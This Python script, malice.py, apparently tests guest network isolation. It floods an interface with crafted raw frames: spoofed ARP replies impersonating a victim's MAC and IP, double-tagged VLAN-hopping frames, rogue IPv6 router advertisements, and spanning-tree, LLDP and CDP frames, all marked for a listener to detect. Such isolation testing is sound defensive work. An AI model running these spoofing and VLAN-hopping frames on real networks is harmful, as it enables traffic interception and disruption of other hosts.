"""Sends what a malicious guest would: malice.py INTERFACE OWN_VLAN VICTIM_VLAN OUR_VLAN MAC=ADDRESS..."""

import socket
import struct
import sys
import time

MARK = b"BSMR-malice"
interface, own_vlan, victim_vlan, our_vlan = sys.argv[1], *map(int, sys.argv[2:5])
victims = [argument.split("=") for argument in sys.argv[5:]]
own = bytes.fromhex(open(f"/sys/class/net/{interface}/address").read().strip().replace(":", ""))
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def arp(source, sender, target, operation):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, source, sender, bytes(6), target)


def ipv4(source, target):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(MARK), 0, 0, 64, 17, 0, source, target)
    return header + struct.pack("!HHHH", 68, 67, 8 + len(MARK), 0)


def ipv6(target):
    return struct.pack("!IHBB16s16s", 6 << 28, 8 + len(MARK), 58, 255, bytes.fromhex("fe80" + "00" * 13 + "66"), target) + b"\x86\0\0\0\0\0\0\0"


def kinds(source, victim, address):
    everybody, nobody = b"\xff" * 6, bytes(4)
    yield everybody, 0x0806, arp(source, nobody, address, 1)
    yield everybody, 0x0806, arp(source, address, address, 2)
    yield victim, 0x0806, arp(source, address, address, 2)
    yield victim, 0x0800, ipv4(address, address)
    yield everybody, 0x0800, ipv4(nobody, b"\xff" * 4)
    yield mac("33:33:00:00:00:01"), 0x86DD, ipv6(bytes.fromhex("ff02" + "00" * 13 + "01"))
    yield victim, 0x86DD, ipv6(bytes.fromhex("fe80" + "00" * 13 + "01"))
    yield mac("01:80:c2:00:00:0e"), 0x88CC, b""
    yield mac("01:80:c2:00:00:00"), 0x0026, b"\x42\x42\x03"
    yield mac("01:00:0c:cc:cc:cd"), 0x0032, b"\xaa\xaa\x03"


def tags():
    yield b""
    for vlan in (0, victim_vlan, our_vlan, 4094, 4095):
        yield struct.pack("!HH", 0x8100, vlan)
        yield struct.pack("!HH", 0x88A8, vlan)
        yield struct.pack("!HHHH", 0x8100, own_vlan, 0x8100, vlan)
        yield struct.pack("!HHHH", 0x88A8, own_vlan, 0x8100, vlan)
        yield struct.pack("!HHHH", 0x8100, vlan, 0x8100, own_vlan)
        yield struct.pack("!HHHH", 0x8100, 0, 0x8100, vlan)


count = 0
for victim, address in victims:
    for source in (own, mac(victim)):
        for target, kind, payload in kinds(source, mac(victim), socket.inet_aton(address)):
            for tag in tags():
                frame = target + source + tag + struct.pack("!H", kind) + payload + MARK
                wire.send(frame.ljust(64, b"\0"))
                count += 1
                if count % 50 == 0:
                    time.sleep(0.05)  # queues are short
# What its own network is to hear, after all else.
for _ in range(5):
    tag = struct.pack("!HH", 0x8100, own_vlan)
    wire.send((b"\xff" * 6 + own + tag + struct.pack("!H", 0x0806) + arp(own, bytes(4), bytes(4), 1) + MARK + b"-end").ljust(64, b"\0"))
print(count)
